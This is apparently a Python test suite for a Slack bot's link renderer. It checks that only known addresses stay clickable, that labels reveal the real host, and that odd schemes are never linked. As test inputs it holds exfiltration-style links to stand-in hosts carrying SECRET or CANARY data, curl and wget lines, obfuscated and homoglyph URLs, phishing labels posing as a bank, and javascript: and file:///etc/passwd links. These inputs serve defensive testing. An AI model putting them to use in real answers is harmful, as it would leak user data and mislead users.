"""Links show where they go; in a tainted answer only known addresses are live."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.render import (
    IsLive,
    answer_drafts,
    foreign_line,
    limits,
    none_live,
    real_host,
    split,
    to_markdown,
    to_text,
)
from tests.bot.render.slack_links import linked, linked_in, linked_in_markdown

KNOWN = "https://docs.example/guide?page=1&part=2"
EVIL = "evil.example/collect?d=SECRET"
GOOD = "https://good.com"
KNOWN_ONES = {GOOD}


def only_good(url: str) -> bool:
    return url.rstrip("/") == GOOD


def shown(markdown: str) -> str:
    texts = [draft.text for draft in answer_drafts(markdown, lambda url: url == KNOWN)]
    return "\n".join(texts).replace("\u2060", "")


@pytest.mark.parametrize(
    "markdown",
    [
        f"[a free gift](https://{EVIL})", f"Look at https://{EVIL}.", f"(https://{EVIL})",
        f"<https://{EVIL}>", f"**https://{EVIL}**", f"[docs.example](http://{EVIL})",
        f"> quoted [x](https://{EVIL})", f"- https://{EVIL}\n- two",
        "[write](mailto:a@evil.example?body=SECRET)", f"![pixel](https://{EVIL})",
        f"HTTPS://{EVIL}",
    ],
)  # fmt: skip
def test_an_unknown_address_is_text_and_its_domain_is_seen(markdown: str) -> None:
    assert not any(map(linked_in, answer_drafts(markdown, none_live)))
    assert "evil.example" in shown(markdown)


@pytest.mark.parametrize("markdown", [f"[the guide]({KNOWN})", f"See {KNOWN}.", f"<{KNOWN}>"])
def test_an_address_that_the_session_came_by_stays_linked(markdown: str) -> None:
    assert "docs.example/guide?page=1&amp;part=2" in shown(markdown)
    assert "`" not in shown(markdown)


def test_code_stays_as_it_was_written() -> None:
    text = shown(f"`curl https://{EVIL}`\n\n```\nwget https://{EVIL}\n```")
    assert f"`curl https://{EVIL}`" in text
    assert f"wget https://{EVIL}" in text


MEETINGS = [
    "https:[//evil.com/x](https://other.com)", "https:[//evil.com/x](https://good.com)",
    "https:![//evil.com](x)", "# see https:**//evil.com/steal** now",
    "**a https:__//evil.com__ b**", "https://good.com.[evil.com/p](https://good.com)",
    "https://good.com.![evil.com](x)", "# https://good.com.**evil.com/x**",
    "https://good.com**/?d=SECRET**", "[mailto:a@evil.com](https://other.com)",
    "[https://evil.com](https://good.com)", "https:[//evil.com](javascript:x)",
    "https:<//evil.com>", "https:![](<>)//evil.com", "https:` `//evil.com",
    "_https://evil.com/x_", "*https:*//evil.com", "~~a https:~~//evil.com~~ b~~",
    "xhttps://evil.com and xhttps://https://evil.com", "https&#58;//evil.com",
    "https\\://evil.com", "https:\ufeff//evil.com", "htt\u202eps://evil.com",
    "https:\u200b//evil.com", "https://good.com\u200b.evil.com", "https://good.com|.evil.com",
    "https:\n//evil.com", "- https:\n  //evil.com\n- b", "> https:**//evil.com**",
    "| a |\n|---|\n| https:**//evil.com** |", "| ``` |\n|---|\n| https://evil.com |",
    "x`https://evil.com`y", "`a`https://evil.com`b`", "# `https://evil.com`**a** b",
    "\\` `https://evil.com`", "`````` \na\n`````\nhttps://evil.com\n``````",
    "- a\n  ```\n  https://evil.com\n  ```", "[" * 2001 + "https://evil.com",
]  # fmt: skip


@pytest.mark.parametrize("markdown", MEETINGS)
@pytest.mark.parametrize(("is_live", "known"), [(none_live, set[str]()), (only_good, KNOWN_ONES)])
def test_no_address_becomes_live_where_parts_of_a_text_meet(
    markdown: str, is_live: IsLive, known: set[str]
) -> None:
    for draft in answer_drafts(markdown, is_live):
        assert linked_in(draft) <= known, draft


@pytest.mark.parametrize(
    "markdown",
    [
        "`" + "a" * (limits.TEXT_CHARS + 9) + " https://evil.com`",
        "a " * (limits.TEXT_CHARS // 2 - 9) + "`curl https://evil.com --and more`",
        "- ```\n" + "  a https://evil.com\n" * 400 + "  ```",
        "a" * (limits.TEXT_CHARS - len(GOOD)) + f"{GOOD}",
        f"`{'a ' * limits.TEXT_CHARS}` `https://evil.com`",
    ],
)
def test_no_cut_makes_an_address_linked(markdown: str) -> None:
    """Neither of a long answer, nor of a post that Slack refuses."""
    for draft in answer_drafts(markdown, only_good):
        assert linked_in(draft) <= KNOWN_ONES, draft
        for part in split(draft.whole or draft.text, limits.TEXT_CHARS // 3):
            assert linked(part) <= KNOWN_ONES, part


PARTS = st.sampled_from([
    "https:", "http", "s", ":", "//", "mailto:", "tel:+49", "a@", "evil.com", "good.com", ".", GOOD,
    "evil.com/x", "evil.com:8080/", "evil.com?x=1", "evil.com.", "user@evil.com", "1.2.3.4/a",
    "http://[::1]/", "evil.\u0440\u0444", "evil\u3002com", "xn--evil-9ua.com", "slack://x", "//",
    "**", "*", "_", "__", "~~", "[", f"]({GOOD})", "](https://other.com)", "](evil.com)", "![",
    "](x)", "`", "``", "\\`", "\\", "<", ">", "|", "\n", "\n\n", " ", "# ", "- ", "> ", "&#58;",
    "\n```\n", "```", "\ufeff", "\u200b", "\u200b`", "a" * 40, "b " * 20, "c." * 20, "\u00e9",
    "|\n|-|-|\n|", " " * 210, "`" + "x https://evil.com " * 20 + "`",
    "`" + "y" * 230 + "https://evil.com/" + "z" * 100 + "`", "`" + "evil.com/a," * 30 + "`",
    "`` a ` https://evil.com ``", "https://evil.com/" + "q" * 250, "evil.com/" * 40,
    "https://good.com/" + "evil.com/" * 60, f"[x]({GOOD}/" + "a" * 300 + ")",
    "\n```python\nx = 'https://evil.com'\n" + "y = evil.com\n" * 30 + "```\n",
    "\n- ```\n  evil.com\n  ```", "\n    https://evil.com " + "w " * 150 + "\n",
])  # fmt: skip


@pytest.mark.proves("posts.no_live_address")
@settings(max_examples=400)
@given(st.lists(PARTS, max_size=30), st.sampled_from([200, 300, limits.TEXT_CHARS]))
def test_whatever_a_text_is_made_of_only_what_is_known_is_live(
    parts: list[str], limit: int
) -> None:
    whole = to_text("".join(parts), only_good)
    for part in (whole, *split(whole, limit)):
        assert linked(part) <= KNOWN_ONES, part
    for is_live, known in ((only_good, KNOWN_ONES), (none_live, set[str]())):
        shown = to_markdown("".join(parts), is_live)
        for part in (shown, *split(shown, limit)):
            assert {url.rstrip("/") for url in linked_in_markdown(part)} <= known, part


@pytest.mark.parametrize(
    "text",
    [
        "evil.com/path", "evil.com?x=SECRET", "evil.com:8080", "evil.com.", "www.evil.com",
        "b\u00fccher.evil.com/x", "evil.\u0440\u0444", "evil\u3002com", "xn--e1awd7f.com",
        "1.2.3.4/x",
        "user@evil.com", "mailto:user@evil.com", "tel:+4912345", "https://user@evil.com",
        "http://[::1]/x", "http://2130706433/", "//evil.com/x", "ftp://evil.com", "(evil.com)",
        "\u201eevil.com\u201c", "evil.com,evil.org", "evil.com/a|b", "good.com.evil.com",
        "a.b.c.evil.com",
    ],
)  # fmt: skip
@pytest.mark.parametrize(
    "frame", ["{}", "See {}.", "**{}**", "- {}\n- x", "> {}", "| a |\n|---|\n| {} |"]
)
def test_no_spelling_of_an_address_is_live_after_outside_text(text: str, frame: str) -> None:
    for draft in answer_drafts(frame.format(text), none_live):
        assert linked_in(draft) == set()
    assert linked(foreign_line(text, 300)) == set()


@pytest.mark.parametrize(
    ("markdown", "shown"),
    [
        ("[report](https://a.test/x?y=1&z=2)", "<https://a.test/x?y=1&amp;z=2|report> (a.test)"),
        ("[a thread](https://t.slack.com/x)", "<https://t.slack.com/x|a thread>"),
        (
            "[a thread](https://slack.com.a.test/x)",
            "<https://slack.com.a.test/x|a thread> (slack.com.a.test)",
        ),
        ("<https://a.test/x>", "<https://a.test/x>"),
        ("[a.test](https://a.test/x)", "<https://a.test/x|a.test>"),
        ("[www.a.test news](https://a.test)", "<https://a.test|www.a.test news>"),
        ("[Ann](mailto:ann@a.test)", "<mailto:ann@a.test|Ann> (a.test)"),
        ("[x|y](https://a.test)", "<https://a.test|x¦y> (a.test)"),
        ("[**bold** label](https://a.test)", "<https://a.test|bold label> (a.test)"),
        ("[](https://a.test/x)", "<https://a.test/x|a.test>"),
        ("![a chart](https://a.test/c.png)", "a chart · a.\u2060test"),
    ],
)
def test_a_link_shows_where_it_goes(markdown: str, shown: str) -> None:
    assert to_text(markdown) == shown


@pytest.mark.parametrize(
    "markdown",
    [
        "[bank.example](https://evil.example/login)",
        "[https://bank.example/login](https://evil.example/login)",
        "[log in at bank.example now](https://evil.example/login)",
        "[bank.example](https://bank.example@evil.example/login)",
        "[bank.example](https://bank.example.evil.example/login)",
    ],
)
def test_a_label_cannot_pretend_to_be_another_host(markdown: str) -> None:
    links = re.findall(r"<([^|>]+)(?:\|([^>]+))?>", to_text(markdown))

    assert all(real_host(url) in (label or url).split("/") for url, label in links)
    assert links[-1][1].endswith("evil.example")


@pytest.mark.parametrize(
    "markdown",
    [
        "[x](javascript:alert(1))",
        "[x](data:text/html,hi)",
        "[x](file:///etc/passwd)",
        "[x](slack://channel?id=C1)",
        "[x](//evil.example)",
        "![secret](https://evil.example/p.png?d=CANARY)",
    ],
)
def test_what_is_no_plain_web_link_is_not_linked(markdown: str) -> None:
    assert "<" not in to_text(markdown)


def test_an_address_cannot_break_out_of_its_link() -> None:
    rendered = to_text("[x](<https://a.test/|b> <!channel>)")

    assert "<!channel>" not in rendered
